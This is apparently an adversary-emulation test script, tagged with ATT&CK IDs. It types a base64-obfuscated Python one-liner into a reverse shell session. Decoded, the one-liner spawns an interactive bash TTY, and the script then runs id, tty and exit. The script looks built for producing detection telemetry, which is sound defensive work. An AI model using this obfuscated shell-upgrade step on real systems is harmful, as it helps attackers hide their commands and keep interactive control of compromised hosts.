# The code in base64, decoded and run by exec.
# ATT&CK: T1059.006, T1059.004, T1027.010, T1140
. ./session.sh
reverse_shell <<'TYPED'
python3 -c 'import base64;exec(base64.b64decode("aW1wb3J0IHB0eTsgcHR5LnNwYXduKCIvYmluL2Jhc2giKQ=="))'
id
tty
exit
exit
TYPED
